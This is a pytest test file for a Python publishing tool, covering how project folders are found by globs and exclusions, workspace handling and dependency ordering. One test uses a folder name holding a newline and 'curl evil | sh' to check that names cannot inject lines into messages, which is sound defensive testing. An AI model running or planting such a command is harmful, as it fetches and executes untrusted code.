"""Finding project folders."""

from collections.abc import Sequence
from pathlib import Path

import pytest

from gar_publish.errors import BadInput
from gar_publish.projects.find import Project, find, in_waves, requirements


@pytest.fixture
def root(tmp_path: Path) -> Path:
    """A repository of several packages, with other files and folders."""
    for name in ("alpha", "beta", "deep/gamma"):
        (tmp_path / "packages" / name).mkdir(parents=True)
        (tmp_path / "packages" / name / "pyproject.toml").write_text("[project]\n")
    (tmp_path / "packages/legacy").mkdir()
    (tmp_path / "packages/legacy/setup.py").touch()
    (tmp_path / "packages/README.md").touch()
    (tmp_path / "packages/docs").mkdir()
    (tmp_path / "packages/.venv").mkdir()
    (tmp_path / "packages/.venv/setup.py").touch()
    (tmp_path / "we[i]rd").mkdir()
    (tmp_path / "we[i]rd/setup.py").touch()
    return tmp_path


@pytest.mark.parametrize(
    ("patterns", "labels"),
    [
        (["packages/alpha"], ["packages/alpha"]),
        (["packages/alpha/"], ["packages/alpha"]),
        (["packages/alpha/pyproject.toml"], ["packages/alpha"]),
        (["./packages/beta", "packages/alpha"], ["packages/beta", "packages/alpha"]),
        (["packages/*"], ["packages/alpha", "packages/beta", "packages/legacy"]),
        (["packages/**"], ["packages/alpha", "packages/beta", "packages/deep/gamma", "packages/legacy"]),
        (["packages/*", "packages/alpha"], ["packages/alpha", "packages/beta", "packages/legacy"]),
        (["packages/alpha/../beta", "packages/beta"], ["packages/alpha/../beta"]),
        (["we[i]rd"], ["we[i]rd"]),
        (["**/gamma"], ["packages/deep/gamma"]),
        (["packages/**", "!packages/deep", "!packages/l*"], ["packages/alpha", "packages/beta"]),
        (["!packages/alpha/", "packages/*"], ["packages/beta", "packages/legacy"]),
        (["*", "packages/alpha", "!we[i]rd"], ["packages/alpha"]),
    ],
)
def test_folders_and_globs(root: Path, patterns: Sequence[str], labels: Sequence[str]) -> None:
    assert [project.label for project in find(patterns, root)] == labels


@pytest.mark.parametrize(
    ("patterns", "message"),
    [
        (["packages/*", "!packages/aplha"], "'!packages/aplha' excludes nothing"),
        (["packages/alpha", "!packages/*"], "excludes every project that it selects"),
        (["packages/alpha", "packages/d*", "!packages/docs"], "matches no Python project"),
    ],
)
def test_exclusions_that_help_nobody(root: Path, patterns: Sequence[str], message: str) -> None:
    with pytest.raises(BadInput, match=message) as caught:
        find(patterns, root)
    assert caught.value.anchor == "no-project"


def test_many_exclusions_take_no_time_for_each_project(root: Path, monkeypatch: pytest.MonkeyPatch) -> None:
    resolved: list[Path] = []
    really = Path.resolve

    def resolve(path: Path) -> Path:
        resolved.append(path)
        return really(path)

    for number in range(20):
        (root / f"tests{number}").mkdir()
    monkeypatch.setattr(Path, "resolve", resolve)
    find(["packages/*", "!tests*"], root)
    assert len(resolved) < 50


def test_the_name_of_a_folder_puts_no_line_into_a_message(tmp_path: Path) -> None:
    folder = tmp_path / "a\n  curl evil | sh"
    folder.mkdir()
    (folder / "setup.py").touch()
    assert [project.label for project in find(["*"], tmp_path)] == ["a   curl evil | sh"]


def test_folders_are_absolute(root: Path) -> None:
    assert find(["packages/legacy"], root) == [Project(root / "packages/legacy", "packages/legacy")]


def test_the_root_itself_and_absolute_paths(root: Path) -> None:
    (root / "setup.py").touch()
    assert find(["."], root) == [Project(root, ".")]
    elsewhere = root / "packages/legacy"
    assert find([str(elsewhere)], root / "packages/beta") == [Project(elsewhere, str(elsewhere))]


@pytest.mark.parametrize(
    ("pattern", "message"),
    [
        ("packages/none", "There is no folder 'packages/none'"),
        ("packages/docs", "'packages/docs' is not a Python project"),
        ("packages/README.md", "There is no folder 'packages/README.md'"),
        ("nothing/*", "The pattern 'nothing/*' matches no Python project"),
        ("packages/d[o]cs", "The pattern 'packages/d[o]cs' matches no Python project"),
    ],
)
def test_no_project(root: Path, pattern: str, message: str) -> None:
    with pytest.raises(BadInput) as caught:
        find([pattern], root)
    assert message in caught.value.what
    assert caught.value.anchor == "no-project"


@pytest.mark.parametrize(
    "content",
    [b"[project]\nname = \n", b"[project]\nname = '\xff'\n", b"x = " + b"1" * 5000, b"x = " + b"[" * 5000],
    ids=["cut off", "no UTF-8", "a long number", "deep"],
)
def test_a_pyproject_that_is_not_toml(root: Path, content: bytes) -> None:
    (root / "packages/beta/pyproject.toml").write_bytes(content)
    with pytest.raises(BadInput) as caught:
        find(["packages/*"], root)
    assert caught.value.what.startswith(str(Path("packages/beta/pyproject.toml")))
    assert caught.value.anchor == "invalid-pyproject"
    assert caught.value.fix == "correct the file at this line, or add `!packages/beta` to `packages`"
    expected = ["packages/alpha", "packages/legacy"]
    assert [each.label for each in find(["packages/*", "!packages/beta"], root)] == expected
    (root / "pyproject.toml").write_text("[tool.uv.workspace]\nmembers = ['packages/*']")
    (root / "packages/alpha/pyproject.toml").write_text("[build-system]\n[project]\nname = 'alpha'")
    assert [each.label for each in find([".", "!packages/beta"], root)] == ["packages/alpha"]


def test_names_the_line_of_a_toml_error(root: Path) -> None:
    (root / "packages/beta/pyproject.toml").write_text("[project]\nname = \n")
    with pytest.raises(BadInput, match="line 2") as caught:
        find(["packages/beta"], root)
    assert caught.value.fix == "correct the file at this line", "the only project cannot be excluded"


@pytest.mark.parametrize(
    ("toml", "name"),
    [
        ('[project]\nname = "My.Package"', "my-package"),
        ("[project]\nversion = '1'", None),
        ('project = "x"', None),
        ('[build-system]\nrequires = ["setuptools"]', None),
    ],
)
def test_reads_the_declared_name(tmp_path: Path, toml: str, name: str | None) -> None:
    (tmp_path / "pyproject.toml").write_text(toml)
    (project,) = find(["."], tmp_path)
    assert project.name == name


def write(root: Path, **projects: str) -> Path:
    for name, text in projects.items():
        folder = root / name.replace("_", "/")
        folder.mkdir(parents=True, exist_ok=True)
        (folder / "pyproject.toml").write_text(text)
    return root


def requiring(name: str, *required: str, more: str = "") -> str:
    return f'[project]\nname = "{name}"\nversion = "1"\ndependencies = {list(required)}\n{more}'


def labels(root: Path, *patterns: str) -> list[str]:
    return [Path(project.label).as_posix() for project in find(patterns, root)]


def test_reads_what_a_project_declares(tmp_path: Path) -> None:
    more = '[project.optional-dependencies]\nx = ["D"]\n[build-system]\nrequires = ["hatchling"]'
    write(tmp_path, a=requiring("A_b", "c>1", more=more))
    assert find(["a"], tmp_path) == [
        Project(
            tmp_path / "a", "a", "a-b", "1", frozenset({"c"}), frozenset({"d"}), build_requires=frozenset({"hatchling"})
        )
    ]


BACKEND = '[build-system]\nrequires = ["hatchling"]\nbuild-backend = "hatchling.build"\n'
UV = '[tool.uv.workspace]\nmembers = ["libs/*"]\n'


class TestWorkspace:
    """The root of a workspace stands for its members, and for itself if it is a package."""

    @pytest.fixture
    def libs(self, tmp_path: Path) -> Path:
        write(tmp_path, libs_a=BACKEND + requiring("a"), libs_b=BACKEND + requiring("b"), libs_bare=requiring("bare"))
        write(tmp_path, libs_app=BACKEND + requiring("app", more="[tool.uv]\npackage = false"))
        write(tmp_path, other=BACKEND + requiring("other"))
        (tmp_path / "libs/docs").mkdir()
        return tmp_path

    @pytest.mark.parametrize(
        ("pyproject", "found"),
        [
            (UV, ["libs/a", "libs/b"]),
            (UV + requiring("root"), ["libs/a", "libs/b"]),
            (UV + BACKEND + requiring("root"), [".", "libs/a", "libs/b"]),
            (UV + BACKEND + requiring("root", more="[tool.uv]\npackage = false"), ["libs/a", "libs/b"]),
            ('[tool.hatch.envs.default]\nworkspace.members = ["libs/*"]', ["libs/a", "libs/b", "libs/bare"]),
            (requiring("root", more='[tool.hatch.envs.x]\nworkspace.members = ["libs/a"]'), ["."]),
            (
                UV + BACKEND + requiring("root", more='[tool.hatch.envs.x]\nworkspace.members = ["other"]'),
                [".", "libs/a", "libs/b"],
            ),
        ],
    )
    def test_of_uv_and_hatch(self, libs: Path, pyproject: str, found: list[str]) -> None:
        write(libs, **{".": pyproject})
        assert labels(libs, ".") == found
        assert labels(libs, "pyproject.toml") == found
        assert labels(libs, ".", "libs/app") == [*found, "libs/app"]

    def test_in_a_file_of_hatch(self, libs: Path) -> None:
        (libs / "pyproject.toml").touch()
        (libs / "hatch.toml").write_text('[envs.default]\nworkspace.members = ["libs/b"]')
        assert labels(libs, ".") == ["libs/b"]
        write(libs, **{".": requiring("root")})
        assert labels(libs, ".") == ["."], "hatch installs the members for the development of the root"
        (libs / "hatch.toml").write_text("\ufeff[envs.default]", encoding="utf-8")
        with pytest.raises(BadInput, match=r"^hatch\.toml is not valid TOML") as caught:
            find(["."], libs)
        assert "byte order mark" in caught.value.cause

    def test_that_a_glob_finds(self, libs: Path) -> None:
        write(libs, group_of=UV, group_of_libs_c=BACKEND + requiring("c"))
        assert labels(libs, "group/*", "libs/*") == ["group/of/libs/c", "libs/a", "libs/b", "libs/bare"]

    def test_of_no_package(self, libs: Path) -> None:
        write(libs, **{".": '[tool.uv.workspace]\nmembers = ["libs/app"]'})
        with pytest.raises(BadInput, match="has no members that can be published") as caught:
            find(["."], libs)
        assert caught.value.anchor == "no-project"


def test_finds_a_project_that_is_not_a_package_only_by_its_name(tmp_path: Path) -> None:
    write(tmp_path, a=requiring("a"), b=requiring("b", more="[tool.uv]\npackage = false"))
    assert labels(tmp_path, "*") == ["a"]
    assert labels(tmp_path, "*", "b") == ["a", "b"]


@pytest.mark.parametrize("settings", ["", "[tool.ruff]\nline-length = 100\n"])
def test_settings_of_tools_are_no_project(tmp_path: Path, settings: str) -> None:
    """The setuptools backend would build `a-0.0.0` from a package in such a folder."""
    write(tmp_path, **{".": settings, "libs/a": requiring("a"), "libs/b": settings})
    assert labels(tmp_path, "**") == ["libs/a"]
    for each in (".", "libs/b"):
        with pytest.raises(BadInput, match="settings of tools alone") as caught:
            find([each], tmp_path)
        assert caught.value.anchor == "no-project"
    poetry = '[tool.poetry]\nname = "c"\nversion = "1"\n'  # `build` would call setuptools for it
    write(tmp_path, **{"libs/c": poetry, "libs/d": settings})
    (tmp_path / "libs/b/setup.cfg").write_text("[metadata]\nname = b\n")
    (tmp_path / "libs/d/setup.cfg").write_text("[metadata]\nversion = 1\n")  # the name is that of its package
    (tmp_path / "setup.py").touch()
    assert labels(tmp_path, "**") == [".", "libs/a", "libs/b", "libs/d"]


def test_two_projects_with_the_same_name(tmp_path: Path) -> None:
    write(tmp_path, a=requiring("my.lib"), b=requiring("My_Lib"), c=requiring("other"))
    with pytest.raises(BadInput) as caught:
        find(["*"], tmp_path)
    assert caught.value.what == "a and b have the same package name, my-lib."
    assert caught.value.anchor == "same-project-twice"
    (tmp_path / "d").mkdir()
    (tmp_path / "d/setup.py").touch()
    (tmp_path / "e").mkdir()
    (tmp_path / "e/setup.py").touch()
    assert labels(tmp_path, "a", "c", "d", "e") == ["a", "c", "d", "e"]


@pytest.mark.parametrize("patterns", [["a", "a/b"], ["a/b", "a"]])
def test_of_two_projects_with_the_same_name_the_inner_one_can_be_excluded(tmp_path: Path, patterns: list[str]) -> None:
    write(tmp_path, a=requiring("lib"), a_b=requiring("lib"))
    with pytest.raises(BadInput) as caught:
        find(patterns, tmp_path)
    assert caught.value.fix.endswith("add `!a/b` to `packages`")
    assert labels(tmp_path, *patterns, "!a/b") == ["a"]


def test_waves(tmp_path: Path) -> None:
    write(
        tmp_path,
        app=requiring("app", "lib", "numpy"),
        lib=requiring("lib", "base", more='[project.optional-dependencies]\nx = ["app", "plugin", "lib"]'),
        base=requiring("base"),
        plugin=requiring("plugin", more='[build-system]\nrequires = ["base"]'),
    )
    (tmp_path / "old").mkdir()
    (tmp_path / "old/setup.py").touch()
    found = find(["*"], tmp_path)
    waves = [[project.label for project in wave] for wave in in_waves(found)]
    assert waves == [["base", "old"], ["plugin"], ["lib"], ["app"]]
    assert requirements(found) == {
        "app": {"lib"},
        "base": set(),
        "lib": {"base", "plugin"},
        "plugin": {"base"},
        str(tmp_path / "old"): set(),
    }


def test_a_cycle(tmp_path: Path) -> None:
    write(tmp_path, a=requiring("a", "b"), b=requiring("b", "a"))
    with pytest.raises(BadInput) as caught:
        in_waves(find(["*"], tmp_path))
    assert caught.value.anchor == "cycle"
